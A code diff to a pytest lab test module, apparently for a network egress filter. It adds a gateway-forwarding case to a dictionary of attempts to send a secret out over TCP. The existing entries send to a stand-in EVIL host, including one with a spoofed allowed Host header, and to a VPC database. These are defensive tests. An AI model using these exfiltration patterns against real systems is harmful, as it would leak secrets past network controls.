@@ -17,10 +17,11 @@ from tests.attacks.outside import (
     LISTED,
     PUBLIC_RESOLVER,
     Outside,
+    led_elsewhere,
     outside,
 )
 from tests.lab.engine import eventually
-from tests.lab.lab import Fleet
+from tests.lab.lab import GATEWAY, Fleet
 
 pytestmark = pytest.mark.lab
 
@@ -62,7 +63,7 @@ PY
 
 @pytest.fixture(scope="module")
 def hosts(shared: Fleet) -> Iterator[Outside]:
-    with outside() as made:
+    with outside() as made, led_elsewhere():
         yield made
 
 
@@ -123,6 +124,7 @@ SENDS = {
     "the name of an allowed host in http": (
         f"tcp('{EVIL}', 80, b'GET /' + SECRET + b' HTTP/1.1\\r\\nHost: git.allowed.example\\r\\n')"
     ),
+    "a port of the host that leads elsewhere": f"tcp('{GATEWAY}', 30080, SECRET)",
     "a database of the vpc": f"tcp('{DATABASE}', 443, SECRET)",
 }
 
